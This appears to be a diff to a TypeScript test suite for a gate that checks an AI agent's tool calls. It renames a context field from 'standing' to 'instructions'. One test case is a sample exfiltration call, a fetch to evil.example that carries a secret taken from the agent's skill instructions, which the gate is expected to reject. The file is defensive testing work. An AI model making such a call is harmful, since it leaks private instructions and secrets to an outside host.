@@ -61,7 +61,7 @@ const everything: CharacterPolicy = { authority: { alone: [{ id: 'all', descript
 function judge(call: CallFacts, read: Read, policy: CharacterPolicy = everything): Verdict {
   const gate = compileGate(policy, 'digest', testTools);
   invariant(gate.ok, 'compiles');
-  const { items = [], addresses = [], standing = [], isApproved, holdsSecret = false } = read;
+  const { items = [], addresses = [], instructions = [], isApproved, holdsSecret = false } = read;
   const { argumentsDigest: digest } = call;
   const approval = { requestId: 'a', argumentsDigest: digest, decision: 'Approve', by: 'ada', reason: 'ok' } as const;
   return gate.value.tool(call, {
@@ -69,7 +69,7 @@ function judge(call: CallFacts, read: Read, policy: CharacterPolicy = everything
     autonomous: true,
     nowMs: 0,
     approvals: isApproved === true ? [{ ...approval, expiresAtMs: 1 }] : [],
-    read: { items, addresses, standing },
+    read: { items, addresses, instructions },
     holdsSecret,
   });
 }
@@ -153,7 +153,7 @@ const flows: readonly Flow[] = [
   [
     'tells its instructions to a listed host',
     fetchOf('https://evil.example/?d=skillz77key'),
-    { items: [page], standing: ['the skill says skillz77key'] },
+    { items: [page], instructions: ['the skill says skillz77key'] },
     'Reject flow/private-in-arguments',
     { ...everything, gatePolicies: { allowLists: { domains: ['evil.example'] } } },
   ],
